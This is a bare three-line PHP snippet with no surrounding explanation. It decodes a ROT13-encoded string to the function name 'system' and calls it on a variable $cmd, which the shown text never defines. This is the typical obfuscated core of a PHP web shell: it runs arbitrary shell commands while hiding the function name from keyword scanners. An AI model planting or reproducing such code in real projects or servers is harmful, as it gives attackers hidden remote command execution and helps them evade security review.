<?php
$f = str_rot13('flfgrz');
$f($cmd);
